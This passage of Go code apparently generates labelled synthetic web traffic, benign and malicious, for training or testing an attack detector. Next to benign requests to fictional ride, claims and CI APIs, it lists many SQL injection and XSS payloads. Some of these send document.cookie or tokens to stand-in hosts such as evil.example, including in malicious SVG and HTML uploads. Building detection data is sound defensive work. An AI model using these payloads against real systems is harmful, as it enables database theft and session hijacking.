		case 8:
			g.benignAdd(h5Req{Method: "GET", Host: h, Path: "/v2/riders/me"},
				h5OK(h5JSON(map[string]any{"id": "rdr_" + g.str(h5Alnum, 12), "name": h5Names[g.r.Intn(len(h5Names))], "email": "rider" + fmt.Sprint(g.n(1, 9999)) + "@mail.example", "phone": "+44 7*** ***" + fmt.Sprint(g.n(100, 999)), "home": h5Places[g.r.Intn(len(h5Places))]})))
		case 9:
			g.benignAdd(h5Req{Method: "GET", Host: h, Path: "/v2/trips?status=completed&page_size=" + g.pick("20", "50", "100", "1000") + "&before=2026-12-01T00:00:00Z"},
				h5OK(h5JSON(map[string]any{"trips": []any{g.trip(), g.trip(), g.trip()}, "next_page_token": g.str(h5Alnum, 32)})))
		case 10:
			g.benignAdd(h5Req{Method: "POST", Host: h, Path: "/v2/promo/redeem", CType: "application/json", Body: h5JSON(map[string]any{"code": g.pick("WINTER26", "RIDE-5OFF", "SELECT10", "UNION-STAFF", "DROP50")})},
				g.pick2(h5OK(`{"applied":true,"discount":"5.00"}`), h5Err(422, "invalid_code", "This code has expired or is not valid in your city.")))
		case 11:
			g.benignAdd(h5Req{Method: "PUT", Host: h, Path: "/v2/drivers/me/location", CType: "application/json", Body: h5JSON(map[string]any{"lat": 51.5 + float64(g.n(0, 9999))/100000, "lng": -0.1 - float64(g.n(0, 9999))/100000, "heading": g.n(0, 359), "speed_kmh": g.n(0, 80), "accuracy_m": g.n(3, 40)})},
				h5Resp{Status: 204})
		case 12:
			b := "----RideGoForm" + g.str(h5Alnum, 10)
			g.benignAdd(h5Req{Method: "POST", Host: h, Path: "/v2/drivers/me/documents", CType: "multipart/form-data; boundary=" + b, Body: h5Multipart(b, [][4]string{{"type", "", "", g.pick("licence", "insurance", "vehicle_inspection")}, {"expires", "", "", "2027-0" + fmt.Sprint(g.n(1, 9)) + "-01"}, {"file", g.pick("licence-front.jpg", "MOT_certificate.pdf", "insurance 2026.pdf"), "image/jpeg", g.str(h5Alnum, 96)}}), Size: g.n(90000, 3000000)},
				h5Created(h5JSON(map[string]any{"id": "ddoc_" + g.str(h5Alnum, 12), "review": "pending"})))
		case 13:
			if i%36 == 13 {
				g.benignAdd(h5Req{Method: "POST", Host: h, Path: "/api/v1/projects/" + g.proj() + "/artifacts/uploads", CType: "application/json", Body: h5JSON(map[string]any{"name": "coverage.xml", "size": g.n(1000, 90000)})},
					h5Created(h5JSON(map[string]any{"upload_id": "upl_" + g.str(h5Alnum, 20), "part_size": 8388608, "parts": 1})))
				break
			}
			g.benignAdd(h5Req{Method: "POST", Host: h, Path: "/v2/support/chats/" + g.uuid() + "/messages", CType: "application/json", Body: h5JSON(map[string]any{"text": g.pick("I was charged twice for trip trp_8812, can you refund one?", "App shows 'cannot connect to localhost' when I open receipts", "Lost my umbrella in a Prius, plate ends 4HK", "Why is the fare 1=1.8x surge at 3am?", "Driver asked me to cancel and pay cash; is that allowed?", "<b>urgent</b> left my wallet in the car")})},
				h5Created(`{"queued":true,"position":3}`))
		case 14:
			exp := h5Token(map[string]any{"alg": "HS256", "typ": "JWT", "kid": "2026-11-key_2"}, map[string]any{"sub": "usr_" + g.str(h5Alnum, 12), "role": "customer", "iat": h5Base.Add(-72 * time.Hour).Unix(), "exp": h5Base.Add(-48 * time.Hour).Unix()}, "sign")
			g.benignAdd(h5Req{Method: "GET", Host: h, Path: "/v2/trips/trp_" + g.str(h5Alnum, 16), Auth: "Bearer " + exp},
				h5Resp{Status: 401, CType: "application/json", Body: `{"error":"invalid_token","error_description":"The access token expired"}`, Headers: [][2]string{{"WWW-Authenticate", `Bearer error="invalid_token", error_description="The access token expired"`}}})
		}
	}
}

func (g *h5Gen) pick2(a, b h5Resp) h5Resp {
	if g.r.Intn(2) == 0 {
		return a
	}
	return b
}

var h5Projects = []string{"claims-engine", "rider-app", "payments-svc", "infra/terraform", "web-portal", "ml-pricing", "docs-site"}

func (g *h5Gen) proj() string { return url.PathEscape(h5Projects[g.r.Intn(len(h5Projects))]) }

var h5PipelineYAML = []string{
	"stages: [build, test, deploy]\nbuild:\n  image: golang:1.23\n  script:\n    - go build ./...\n    - go vet ./...\ntest:\n  script:\n    - go test -race ./... | tee test.log\n",
	"test:\n  image: node:22\n  script:\n    - npm ci && npm test\n    - npx eslint 'src/**/*.ts'\n  cache:\n    paths: [node_modules/]\n",
	"deploy:\n  script:\n    - docker build -t registry.buildhive.example/app:${CI_COMMIT_SHA} .\n    - docker push registry.buildhive.example/app:${CI_COMMIT_SHA}\n  env:\n    NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
	"lint:\n  script:\n    - pip install -r requirements.txt\n    - ruff check . && mypy src/\n    - pytest -q --maxfail=1\n",
	"package:\n  script:\n    - make dist\n    - tar czf dist.tgz dist/ && sha256sum dist.tgz > dist.tgz.sha256\n  artifacts:\n    paths: [dist.tgz, dist.tgz.sha256]\n",
	"migrate:\n  script:\n    - psql \"$DATABASE_URL\" -f migrations/0042_add_claim_index.sql\n    - echo \"migration done\"\n",
}

var h5LogLines = []string{
	"$ go test ./...\nok  \tgithub.com/ridego/payments/internal/fare\t0.412s\nok  \tgithub.com/ridego/payments/internal/ledger\t1.093s\n",
	"Step 4/11 : RUN apt-get update && apt-get install -y --no-install-recommends ca-certificates\n ---> Using cache\nSuccessfully built 4f1c2a9e77b0\n",
	"npm WARN deprecated inflight@1.0.6: This module is not supported\nadded 812 packages in 14s\n> jest --ci\nTests: 214 passed, 214 total\n",
	"Using NPM_TOKEN=***\n$ npm publish --access public\n+ @ridego/maps-sdk@4.2.0\n",
	"--- FAIL: TestFareRounding (0.00s)\n    fare_test.go:88: got 12.49, want 12.50\nFAIL\nexit status 1\n",
	"Running migrations...\nApplied 0042_add_claim_index.sql (CREATE INDEX CONCURRENTLY idx_claims_status ON claims (status))\nDone in 3.2s\n",
	"[ruff] src/pricing/model.py:12:1: F401 'numpy' imported but unused\nFound 1 error.\nERROR: Job failed: exit code 1\n",
	"Pulling docker image python:3.12-slim ...\nChecking out 9f2c41d0 as detached HEAD (ref is main)...\nSkipping Git submodules setup\nExecuting \"step_script\" stage of the job script\n",
}

func (g *h5Gen) benignCI(n int) {
	h := h5CI
	origin := [][2]string{{"Origin", h5Origins[h]}}
	corsOK := [][2]string{{"Access-Control-Allow-Origin", h5Origins[h]}, {"Access-Control-Allow-Credentials", "true"}, {"Vary", "Origin"}}
	for i := 0; i < n; i++ {
		switch i % 18 {
		case 0:
			g.benignAdd(h5Req{Method: "GET", Host: h, Path: "/api/v1/projects/" + g.proj() + "/pipelines?ref=" + g.pick("main", "release%2F2026.12", "feature%2Fselect-union-ui", "fix%2Fdrop-table-migration") + "&per_page=" + g.pick("20", "50", "100"), Headers: origin},
				h5Resp{Status: 200, CType: "application/json", Headers: corsOK, Body: h5JSON(map[string]any{"pipelines": []any{map[string]any{"id": g.n(100000, 999999), "sha": g.str(h5Hex, 40), "status": g.pick("success", "failed", "running"), "duration_s": g.n(30, 2000)}}})})
		case 1:
			g.benignAdd(h5Req{Method: "POST", Host: h, Path: "/api/v1/projects/" + g.proj() + "/pipelines", CType: "application/json", Body: h5JSON(map[string]any{"ref": g.pick("main", "develop", "release/2026.12"), "variables": []any{map[string]any{"key": "DEPLOY_ENV", "value": g.pick("staging", "production")}, map[string]any{"key": "GOFLAGS", "value": "-mod=readonly"}}})},
				h5Created(h5JSON(map[string]any{"id": g.n(100000, 999999), "status": "created", "web_url": "https://app.buildhive.example/p/" + fmt.Sprint(g.n(1000, 9999))})))
		case 2:
			g.benignAdd(h5Req{Method: "GET", Host: h, Path: fmt.Sprintf("/api/v1/jobs/%d/log?offset=%d", g.n(1000000, 9999999), g.n(0, 90000))},
				h5Resp{Status: 200, CType: "text/plain; charset=utf-8", Body: h5LogLines[g.r.Intn(len(h5LogLines))]})
		case 3:
			g.benignAdd(h5Req{Method: "PUT", Host: h, Path: "/api/v1/projects/" + g.proj() + "/config", CType: "application/json", Body: h5JSON(map[string]any{"path": ".buildhive.yml", "content": h5PipelineYAML[g.r.Intn(len(h5PipelineYAML))], "commit_message": g.pick("ci: cache node_modules", "ci: add migrate stage", "chore: bump golang image")})},
				h5OK(h5JSON(map[string]any{"valid": true, "jobs": g.n(1, 6)})))
		case 4:
			g.benignAdd(h5Req{Method: "GET", Host: h, Path: "/api/v1/projects/" + g.proj() + "/artifacts?job=" + fmt.Sprint(g.n(1000000, 9999999))},
				h5OK(h5JSON(map[string]any{"artifacts": []any{map[string]any{"name": "dist.tgz", "size": g.n(100000, 90000000), "sha256": g.str(h5Hex, 64), "download_url": "https://artifacts.buildhive.example/a/" + g.str(h5Alnum, 22)}, map[string]any{"name": "coverage.xml", "size": g.n(1000, 90000), "md5": g.str(h5Hex, 32)}}})))
		case 5:
			g.benignAdd(h5Req{Method: "POST", Host: h, Path: "/api/v1/projects/" + g.proj() + "/webhooks", CType: "application/json", Body: h5JSON(map[string]any{"url": g.pick("https://hooks.partner-chat.example/services/T01/B02", "https://ci-bridge.ridego.example/buildhive", "https://8.8.8.8/hook", "https://webhooks.s3.amazonaws.com/ingest", "https://deploy.claimsure.example/api/hooks/buildhive"), "events": []string{"pipeline", "deployment"}, "secret_configured": true})},
				h5Created(h5JSON(map[string]any{"id": "wh_" + g.str(h5Alnum, 12), "signing": "hmac-sha256"})))
		case 6:
			g.benignAdd(h5Req{Method: "GET", Host: h, Path: "/api/v1/projects/" + g.proj() + "/secrets"},
				h5OK(h5JSON(map[string]any{"secrets": []any{map[string]any{"name": "NPM_TOKEN", "value": "********", "updated_at": "2026-10-02T10:00:00Z"}, map[string]any{"name": "DB_PASSWORD_FILE", "value": "/run/secrets/db_password"}, map[string]any{"name": "AWS_ROLE_ARN", "value": "arn:aws:iam::123456789012:role/ci-deploy"}, map[string]any{"name": "STRIPE_PUBLISHABLE_KEY", "value": "pk_test_" + g.str(h5Alnum, 24)}}})))
		case 7:
			g.benignAdd(h5Req{Method: "PUT", Host: h, Path: "/api/v1/projects/" + g.proj() + "/secrets/" + g.pick("SENTRY_DSN_FILE", "DEPLOY_KEY", "SLACK_WEBHOOK"), CType: "application/json", Body: h5JSON(map[string]any{"value": g.str(h5Alnum, 40), "protected": true, "masked": true})},
				h5OK(h5JSON(map[string]any{"name": "DEPLOY_KEY", "value": "[masked]", "version": g.n(2, 30)})))
		case 8:
			q := "query Pipelines($project: ID!, $first: Int) { project(id: $project) { pipelines(first: $first, status: FAILED) { nodes { id sha status jobs(first: 20) { nodes { name status } } } } } }"
			g.benignAdd(h5Req{Method: "POST", Host: h, Path: "/graphql", CType: "application/json", Body: h5JSON(map[string]any{"query": q, "variables": map[string]any{"project": "prj_" + g.str(h5Alnum, 10), "first": g.n(10, 100)}, "operationName": "Pipelines"})},
				h5OK(h5JSON(map[string]any{"data": map[string]any{"project": map[string]any{"pipelines": map[string]any{"nodes": []any{map[string]any{"id": fmt.Sprint(g.n(100000, 999999)), "sha": g.str(h5Hex, 40), "status": "FAILED"}}}}}})))
		case 9:
			comment := g.pick(
				"Flaky again. Use `git log --oneline | head -20` to find the commit that added the retry.",
				"The migration drops the old index first, so re-running it is safe.",
				"Repro: run `make test` twice; second run fails on the cached ../README.md path.",
				"LGTM. Nit: prefer `select` over polling in the worker loop.",
				"Fails only on runners with /etc/nginx/nginx.conf mounted read-only, see the cache step.",
				"Template renders `Hello {{name}}` but the email says `Total: ${price}` literally — escaping issue?",
				"Bumping the limit to 1000 fixed the pagination test; anything higher is rejected by the API.",
				"<p>Reviewed, see <a href=\"https://docs.buildhive.example/caching\">caching docs</a></p>",
				"if (job.retries >= 3 && !job.allowFailure) { fail() } — that condition is why it went red",
				"Cat; dog photos are in the fixtures folder, don't ask.",
			)
			g.benignAdd(h5Req{Method: "POST", Host: h, Path: "/api/v1/projects/" + g.proj() + "/merge_requests/" + fmt.Sprint(g.n(1, 900)) + "/comments", CType: "application/json", Body: h5JSON(map[string]any{"body": comment, "format": "markdown"})},
				h5Created(h5JSON(map[string]any{"id": g.n(10000, 99999)})))
		case 10:
			g.benignAdd(h5Req{Method: "GET", Host: h, Path: "/api/v1/runners?status=online&tag_list=" + url.QueryEscape("docker,linux") + "&limit=" + g.pick("100", "1000")},
				h5OK(h5JSON(map[string]any{"runners": []any{map[string]any{"id": g.n(100, 999), "description": "shared-runner-" + fmt.Sprint(g.n(1, 40)), "ip_address": "10.20." + fmt.Sprint(g.n(0, 255)) + "." + fmt.Sprint(g.n(1, 254)), "version": "17.2.0"}}})))
		case 11:
			g.benignAdd(h5Req{Method: "GET", Host: h, Path: "/api/v1/projects/" + g.proj() + "/repository/files/" + url.PathEscape(g.pick("docs/setup.md", "scripts/deploy.sh", "src/main.go", ".buildhive.yml")) + "/raw?ref=main"},
				h5Resp{Status: 200, CType: "text/plain; charset=utf-8", Body: g.pick("#!/usr/bin/env bash\nset -euo pipefail\nkubectl rollout status deploy/api -n prod\n", "# Setup\n\nRun `make dev` then open http://localhost:8080.\n", "package main\n\nfunc main() { run() }\n")})
		case 12:
			g.benignAdd(h5Req{Method: "POST", Host: h, Path: "/oauth/token", CType: "application/x-www-form-urlencoded", Auth: "-", Body: url.Values{"grant_type": {"client_credentials"}, "client_id": {"cli_" + g.str(h5Alnum, 16)}, "client_secret": {g.str(h5Alnum, 40)}, "scope": {"pipelines:read artifacts:write"}}.Encode()},
				h5OK(h5JSON(map[string]any{"access_token": h5ValidToken(h, "svc_"+g.str(h5Alnum, 8), "developer"), "token_type": "bearer", "expires_in": 7200, "scope": "pipelines:read artifacts:write"})))
		case 13:
			if i%36 == 13 {
				g.benignAdd(h5Req{Method: "POST", Host: h, Path: "/api/v1/projects/" + g.proj() + "/artifacts/uploads", CType: "application/json", Body: h5JSON(map[string]any{"name": "coverage.xml", "size": g.n(1000, 90000)})},
					h5Created(h5JSON(map[string]any{"upload_id": "upl_" + g.str(h5Alnum, 20), "part_size": 8388608, "parts": 1})))
				break
			}
			g.benignAdd(h5Req{Method: "POST", Host: h, Path: "/api/v1/projects/" + g.proj() + "/artifacts/uploads", CType: "application/json", Body: h5JSON(map[string]any{"name": "dist.tgz", "size": g.n(1000000, 500000000), "sha256": g.str(h5Hex, 64)})},
				h5Created(h5JSON(map[string]any{"upload_url": "https://buildhive-artifacts.s3.us-east-1.amazonaws.com/" + g.uuid() + "/dist.tgz?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIA" + g.str("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16) + "%2F20261201%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=20261201T080000Z&X-Amz-Expires=900&X-Amz-SignedHeaders=host&X-Amz-Signature=" + g.str(h5Hex, 64), "method": "PUT"})))
		case 14:
			g.benignAdd(h5Req{Method: "GET", Host: h, Path: "/api/v1/projects/" + g.proj() + "/search?scope=blobs&search=" + url.QueryEscape(g.pick("union all", "onerror", "exec(", "../", "order by created_at", "password_hash", "169.254")) + "&per_page=50"},
				h5OK(h5JSON(map[string]any{"results": []any{map[string]any{"path": "src/db/queries.sql", "line": g.n(1, 300)}}})))
		case 15:
			g.benignAdd(h5Req{Method: "POST", Host: h, Path: "/api/v1/jobs/" + fmt.Sprint(g.n(1000000, 9999999)) + "/retry", Headers: [][2]string{{"X-Buildhive-Client", "cli/3.4.1"}}},
				h5Created(h5JSON(map[string]any{"id": g.n(1000000, 9999999), "status": "pending"})))
		case 16:
			g.benignAdd(h5Req{Method: "GET", Host: h, Path: "/api/v1/projects/" + g.proj() + "/environments/production/deployments?per_page=" + g.pick("10", "1000")},
				h5OK(h5JSON(map[string]any{"deployments": []any{map[string]any{"sha": g.str(h5Hex, 40), "image": "registry.buildhive.example/app@sha256:" + g.str(h5Hex, 64), "by": "usr_" + g.str(h5Alnum, 12)}}})))
		case 17:
			g.benignAdd(h5Req{Method: "GET", Host: h, Path: "/api/v1/user/keys"},
				h5OK(h5JSON(map[string]any{"ssh_keys": []any{map[string]any{"title": "laptop", "key": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + g.str(h5Alnum, 43) + " dev@laptop", "fingerprint": "SHA256:" + g.str(h5Alnum, 43)}}, "gpg_keys": []any{}})))
		}
	}
}

// place puts an injection payload in one of many request locations, chosen
// by k; single-line payloads only go into headers.
func (g *h5Gen) place(k int, p string) h5Req {
	oneLine := !strings.ContainsAny(p, "\r\n") && h5IsASCII(p)
	k %= 14
	if strings.Contains(p, "%2") || strings.Contains(p, "%3") {
		// Already percent-encoded by the attacker: sent as is.
		return h5Req{Method: "GET", Host: h5Claims, Path: "/v1/search/claims?per_page=20&q=" + p}
	}
	if (k == 5 || k == 6) && !oneLine {
		k = 3
	}
	switch k {
	case 0:
		return h5Req{Method: "GET", Host: h5Claims, Path: "/v1/search/claims?q=" + url.QueryEscape(p) + "&per_page=20"}
	case 1:
		return h5Req{Method: "GET", Host: h5Ride, Path: "/v2/places/autocomplete?q=" + url.QueryEscape(strings.ReplaceAll(url.QueryEscape(p), "+", "%20")) + "&session=" + g.uuid()}
	case 2:
		return h5Req{Method: "GET", Host: h5CI, Path: "/api/v1/projects/" + strings.ReplaceAll(url.PathEscape(p), "/", "%2F") + "/pipelines?per_page=20"}
	case 3:
		return h5Req{Method: "POST", Host: h5Claims, Path: "/v1/claims", CType: "application/json", Body: h5JSON(map[string]any{"policy_id": g.policyID(), "incident": map[string]any{"type": "collision", "third_party": map[string]any{"vehicle": map[string]any{"make": p, "plate": "KX21 " + g.str("ABCDEFGH", 3)}}}})}
	case 4:
		return h5Req{Method: "POST", Host: h5Ride, Path: "/v2/riders/me/preferences", CType: "application/x-www-form-urlencoded", Body: url.Values{"nickname": {p}, "lang": {"en-GB"}}.Encode()}
	case 5:
		return h5Req{Method: "GET", Host: h5Ride, Path: "/v2/trips/trp_" + g.str(h5Alnum, 16), Headers: [][2]string{{"User-Agent", p}}}
	case 6:
		hn := g.pick("X-Claim-Channel", "X-Device-Model", "X-Pipeline-Source", "Referer")
		host := map[string]string{"X-Claim-Channel": h5Claims, "X-Device-Model": h5Ride, "X-Pipeline-Source": h5CI, "Referer": h5Claims}[hn]
		return h5Req{Method: "GET", Host: host, Path: h5StatusPath[host], Headers: [][2]string{{hn, p}}}
	case 7:
		return h5Req{Method: "GET", Host: h5Claims, Path: "/v1/claims?limit=25", Headers: [][2]string{{"Cookie", "cs_locale=en-GB; " + g.pick("last_search", "pref_sort", "ui_filter") + "=" + url.QueryEscape(p) + "; theme=dark"}}}
	case 8:
		b := "----ClaimSureBoundary" + g.str(h5Alnum, 12)
		return h5Req{Method: "POST", Host: h5Claims, Path: "/v1/claims/" + g.claimID() + "/documents", CType: "multipart/form-data; boundary=" + b,
			Body: h5Multipart(b, [][4]string{{"kind", "", "", "photo"}, {"caption", "", "", p}, {"file", "IMG_20261130.jpg", "image/jpeg", g.str(h5Alnum, 80)}})}
	case 9:
		return h5Req{Method: "POST", Host: h5Claims, Path: "/soap/ClaimService", CType: "text/xml; charset=utf-8", Headers: [][2]string{{"SOAPAction", "urn:claimsure:claims:v1#FindClaims"}},
			Body: h5SOAP("FindClaims", "<cl:policyNumber>"+h5XMLEsc(p)+"</cl:policyNumber><cl:maxResults>20</cl:maxResults>")}
	case 10:
		return h5Req{Method: "POST", Host: h5CI, Path: "/graphql", CType: "application/json", Body: h5JSON(map[string]any{"query": "query Search($term: String!) { search(term: $term, first: 20) { nodes { __typename ... on Pipeline { id status } } } }", "variables": map[string]any{"term": p}})}
	case 11:
		return h5Req{Method: "POST", Host: h5CI, Path: "/api/v1/projects/" + g.proj() + "/merge_requests", CType: "application/json", Body: h5JSONEsc(map[string]any{"title": p, "source_branch": "feature/fare-cap", "target_branch": "main", "labels": []string{"backend"}})}
	case 12:
		return h5Req{Method: "POST", Host: h5Ride, Path: "/v2/trips/trp_" + g.str(h5Alnum, 16) + "/rating", CType: "application/json", Body: h5JSON(map[string]any{"stars": 5, "feedback": map[string]any{"tags": []any{"clean_car", p}}})}
	default:
		return h5Req{Method: "GET", Host: h5Ride, Path: "/v2/trips?status=completed&sort=" + url.QueryEscape(p) + "&page_size=20"}
	}
}

var h5StatusPath = map[string]string{h5Claims: "/v1/status", h5Ride: "/v2/status", h5CI: "/api/v1/status"}

func h5IsASCII(s string) bool {
	for i := 0; i < len(s); i++ {
		if s[i] >= 0x80 || s[i] < 0x20 {
			return false
		}
	}
	return true
}

func (g *h5Gen) injResp(k int) h5Resp {
	switch k % 5 {
	case 0:
		return h5Err(400, "invalid_request", "The request could not be processed.")
	case 1:
		return h5OK(`{"data":[],"total":0}`)
	case 2:
		return h5Err(422, "validation_failed", "One or more fields are invalid.")
	case 3:
		return h5OK(`{"ok":true}`)
	default:
		return h5Err(403, "forbidden", "Request blocked.")
	}
}

var h5SQLiPayloads = []string{
	"' OR '1'='1", "' OR 1=1-- -", "admin'--", "x@y.test' -- ", "1' AND SLEEP(5)#",
	"1 UNION SELECT username,password FROM users--", "' UNION SELECT NULL,NULL,version()--",
	"-1' UNION ALL SELECT 1,2,group_concat(table_name) FROM information_schema.tables#",
	"'/**/UnIoN/**/SeLeCt/**/1,2,3--", "1;SELECT pg_sleep(7)--", "desc; SELECT pg_sleep(10)--",
	"'; WAITFOR DELAY '0:0:5'--", "1); WAITFOR DELAY '00:00:07'--", "';shutdown--", "'; DROP TABLE claims;--",
	"1' AND (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)=1--",
	"(SELECT CASE WHEN (SUBSTRING(@@version,1,1)='5') THEN SLEEP(5) ELSE 0 END)",
	"1 AND extractvalue(1,concat(0x7e,(SELECT user())))", "1' AND updatexml(null,concat(0x0a,version()),null)-- -",
	"1 AND 1=CONVERT(int,(SELECT @@version))--", "' OR 'x'='x", "\") OR (\"1\"=\"1", "1' ORDER BY 10--+",
	"' HAVING 1=1--", "'||(SELECT pg_sleep(5))||'", "1 OR 1=1",
	"' AND 1=0 UNION SELECT table_name, column_name FROM all_tab_columns--",
	"1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--", "' oR 2>1 #", "%' AND 1=1 AND '%'='",
	"1'; EXEC xp_cmdshell('dir')--", "admin' #", "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)",
	"-5 UNION SELECT 1,LOAD_FILE(0x2f6574632f686f737473),3",
	"1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- -", "' or sleep(5)='", "1)) OR BENCHMARK(10000000,MD5(1))#",
	"'+(SELECT 1 FROM dual WHERE 1=1)+'", "name ASC, (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)",
	"1 UNION/*!50000SELECT*/ 1,2,3", "' UNION SELECT @@version,NULL--", "1'||DBMS_PIPE.RECEIVE_MESSAGE('a',5)--",
	"1' AND 1=(SELECT COUNT(*) FROM sysobjects)--", "' AnD 'a'<>'b", "10 AND 5135=5135",
	"1%27%20or%20%271%27%3D%271", "\"; SELECT * FROM pg_user;--", "') OR ('a'='a",
	"' UNION SELECT username || ':' || password_hash FROM users--",
	"1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
	"'; INSERT INTO admins(email) VALUES('x@evil.example');--",
	"' OR EXISTS(SELECT * FROM users WHERE username='admin' AND password LIKE 'a%')--", "1 AnD SlEeP(3)",
	"' GROUP BY id HAVING 1=1 --", "x' AND 1=(SELECT 1 FROM pg_sleep(5))--", "'\tOR\t1=1--", "1'\nOR\n1=1--",
	"1' /*!UNION*/ /*!SELECT*/ 1,2--", "%27%20UNION%20SELECT%20NULL--", "' OR 1 IN (SELECT @@version)--",
	"'; UPDATE users SET role='admin' WHERE email='me@x.example'--",
	"1 UNION SELECT null, table_name FROM information_schema.tables WHERE 'a'='a",
	"' or ''='", "1;DECLARE @q varchar(8000);SELECT @q=0x73656c656374;EXEC(@q)--", "O'Brien' AND 1=1 UNION SELECT card_number FROM payments--",
}

var h5SQLErrors = []string{
	"You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ''1'' at line 1",
	"pq: unterminated quoted string at or near \"' OR 1=1-- -\"",
	"ERROR: syntax error at or near \"UNION\"\nLINE 1: SELECT id FROM claims WHERE policy_number = '' UNION SELECT...\n                                                            ^",
	"SQLSTATE[42000]: Syntax error or access violation: 1064 You have an error in your SQL syntax",
	"Unclosed quotation mark after the character string ''.\r\nIncorrect syntax near ''.",
	"ORA-01756: quoted string not properly terminated",
	"SQLITE_ERROR: near \"OR\": syntax error",
	"ER_PARSE_ERROR: You have an error in your SQL syntax; check the manual that corresponds to your MariaDB server version",
}

func (g *h5Gen) attackSQLi() {
	for i, p := range h5SQLiPayloads {
		req := g.place(i, p)
		if i%8 == 5 {
			msg := h5SQLErrors[(i/8)%len(h5SQLErrors)]
			g.attack(req, h5Resp{Status: 500, CType: "application/json", Body: h5JSON(map[string]any{"error": "internal", "detail": msg})}, h5SQLi, h5Verb)
			continue
		}
		g.attack(req, g.injResp(i), h5SQLi)
	}
}

var h5XSSPayloads = []string{
	"<script>alert(1)</script>", "<ScRiPt>alert(document.domain)</sCrIpT>", "\"><script>fetch('//x.example/c?'+document.cookie)</script>",
	"<img src=x onerror=alert(1)>", "<img/src/onerror=prompt(1)>", "<svg onload=alert(1)>", "<svg/onload=confirm`1`>",
	"<body onload=alert('xss')>", "<iframe src=\"javascript:alert(1)\"></iframe>", "javascript:alert(document.cookie)",
	"JaVaScRiPt:alert(1)", "java&#x09;script:alert(1)", "javascript&colon;alert(1)", "<a href=\"jav&#x61;script:alert(1)\">click</a>",
	"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(\"x\")", "<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=\"alert(1)\">",
	"<marquee onstart=alert(1)>hi</marquee>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
	"<object data=\"javascript:alert(1)\"></object>", "<embed src=\"javascript:alert(1)\">",
	"<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<x onclick=alert(1)>click me", "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">",
	"%3Cscript%3Ealert(1)%3C%2Fscript%3E", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<form action=javascript:alert(1)><button>go</button></form>",
	"<style onload=alert(1)></style>", "<audio src onerror=alert(1)>", "\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)",
	"<svg><script href=data:,alert(1) />", "<a href=\" javascript:alert(1)\">x</a>", "<img src=x:alert(alt) onerror=eval(src) alt=0>",
	"<body/onpageshow=alert(1)>", "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
	"Nice ride! <script src=https://cdn.evil.example/k.js></script>", "<IMG SRC=\"jav\tascript:alert('XSS');\">",
	"<a href=\"javascript&#58;alert(1)\">receipt</a>", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
	"<div onpointerenter=alert(1)>hover</div>", "<img src=1 onerror=import('//evil.example/x.js')>", "<select autofocus onfocus=alert(1)>",
	"<textarea autofocus onfocus=alert(document.cookie)>", "<script>new Image().src='https://evil.example/?c='+localStorage.token</script>",
	"<iframe src=\"data:text/html,<script>alert(1)</script>\">", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
	"<isindex type=image src=1 onerror=alert(1)>", "<table background=\"javascript:alert(1)\">", "<svg onload=alert&#40;1&#41;>",
	"%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E", "<sCrIpT/SrC=//evil.example/a.js></sCrIpT>", "<img src=x onerror=\"this.src='//evil.example/?'+document.cookie\">",
	"<b onmouseover=alert('Wufff!')>click me!</b>", "</textarea><script>alert(1)</script>", "</title><svg/onload=alert(1)>",
}

func (g *h5Gen) attackXSS() {
	for i, p := range h5XSSPayloads {
		k := i + 3
		resp := g.injResp(i)
		if i%3 == 0 {
			resp = h5Created(h5JSON(map[string]any{"id": "obj_" + g.str(h5Alnum, 10), "status": "saved"}))
		}
		g.attack(g.place(k, p), resp, h5XSS)
	}
	svgs := []string{
		`<?xml version="1.0" standalone="no"?><svg xmlns="http://www.w3.org/2000/svg" width="200" height="100"><rect width="200" height="100" fill="#eee"/><script type="text/javascript">alert(document.domain)</script></svg>`,
		`<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('https://evil.example/c?'+document.cookie)"><circle r="40" cx="50" cy="50"/></svg>`,
		`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text x="10" y="20">Open claim</text></a></svg>`,
		`<svg xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="alert(1)"/></svg>`,
	}
	for i, s := range svgs {
		b := "----RideGoForm" + g.str(h5Alnum, 10)
		host, path := h5Ride, "/v2/drivers/me/documents"
		if i%2 == 1 {
			host, path = h5Claims, "/v1/claims/"+g.claimID()+"/documents"
		}
		g.attack(h5Req{Method: "POST", Host: host, Path: path, CType: "multipart/form-data; boundary=" + b,
			Body: h5Multipart(b, [][4]string{{"type", "", "", "photo"}, {"file", g.pick("damage.svg", "licence.svg", "logo.svg"), "image/svg+xml", s}})},
			h5Created(h5JSON(map[string]any{"id": "doc_" + g.str(h5Alnum, 12)})), h5XSS)
	}
	html := `<!DOCTYPE html><html><head><title>Invoice</title></head><body><h1>Garage invoice</h1><script>document.location='https://evil.example/steal?c='+document.cookie</script></body></html>`
	b := "----ClaimSureBoundary" + g.str(h5Alnum, 12)
